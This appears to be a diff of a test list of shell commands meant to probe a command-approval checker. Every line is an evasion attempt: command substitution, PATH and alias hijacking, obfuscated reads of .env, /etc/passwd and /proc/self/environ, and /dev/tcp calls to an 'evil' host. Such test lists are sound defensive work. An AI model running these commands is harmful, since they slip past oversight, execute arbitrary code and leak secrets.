@@ -13,16 +13,12 @@ ask echo a␊./evil
 ask echo a;./evil
 ask echo $(./evil)
 ask echo "$(./evil)"
-ask echo "a $(echo $(./evil))"
 ask echo ${"`"}./evil${"`"}
-ask echo "${"`"}./evil${"`"}"
 ask echo <(./evil)
 ask echo >(./evil)
-ask echo $((a[$(./evil)]))
 ask echo $[a[$(./evil)]]
 ask x='a[$(./evil)]'; echo $((x))
 ask x='a[$(./evil)]'; echo ${"$"}{y:0:x}
-ask x='a[$(./evil)]'; echo ${"$"}{y:x}
 ask x='a[$(./evil)]'; echo ${"$"}{y[x]}
 ask x='a[$(./evil)]'; for ((i=x; i<1; i++)); do ls; done
 ask x='a[$(./evil)]'; ((x))
@@ -39,13 +35,9 @@ ask printf -vPATH . ; ls
 ask [[ x =~ $(./evil) ]]
 ask [[ $(./evil) == x ]]
 ask case $(./evil) in x) ls;; esac
-ask case x in $(./evil)) ls;; esac
 ask echo ${"$"}{x:-$(./evil)}
-ask echo ${"$"}{x:=$(./evil)}
 ask echo ${"$"}{x/$(./evil)/y}
-ask echo ${"$"}{x#$(./evil)}
 ask echo ${"$"}{!x}
-ask x='$(./evil)'; echo ${"$"}{x@P}
 ask echo ${"$"}{PATH:=.}; ls
 ask PATH=. ls
 ask PATH=.:$PATH; ls
@@ -85,13 +77,11 @@ ask IFS=a; ls
 ask PS4='$(./evil)'; set -x; ls
 ask PROMPT_COMMAND=./evil; ls
 ask http_proxy=http://evil ls
-ask npm_config_registry=http://evil ls
 ask A[$(./evil)]=1
 ask a=($(./evil))
 ask a=(1 2); a[$(./evil)]=3
 ask ls() { ./evil; }; ls
 ask function ls { ./evil; }; ls
-ask cat() (./evil); cat a
 ask alias ls=./evil; ls
 ask shopt -s expand_aliases␊alias ls=./evil␊ls
 ask hash -p ./evil ls; ls
@@ -129,12 +119,10 @@ ask /tmp/timeout 5 ls
 ask ./cd src
 ask $x
 ask "$x"
-ask $x ls
 ask ${"$"}{x} ls
 ask l$x
 ask $(echo ls)
 ask ${"`"}echo ls${"`"}
-ask $0 -c ls
 ask {ls,./evil}
 ask l[s]
 ask l*
@@ -142,7 +130,6 @@ ask ""
 ask ~/evil
 ask ~evil/x
 ask l\␊s; ./evil
-ask ec\␊ho a; ./ev\␊il
 ask e$IFS./evil
 ask ./evil$IFS-x
 ask cat$IFS.env
@@ -157,15 +144,12 @@ ask cat .*
 ask cat */.e*
 ask cat '.env'
 ask cat .e"n"v
-ask cat .e\nv
 ask cat $'.en\x76'
-ask cat $'\x2eenv'
 ask cat ./.env
 ask cat src/../.env
 ask cat "$PWD/.env"
 ask cat $PWD/.env
 ask cat < .env
-ask cat <.env
 ask cat 0<.env
 ask cat <> .env
 ask < .env cat
@@ -189,7 +173,6 @@ ask cat ../secret
 ask cat ../../etc/passwd
 ask cat /etc/passwd
 ask cat /etc/../etc/passwd
-ask cat //etc/passwd
 ask cat /proc/self/environ
 ask cat /dev/tcp/evil/80
 ask cat < /dev/tcp/evil/80
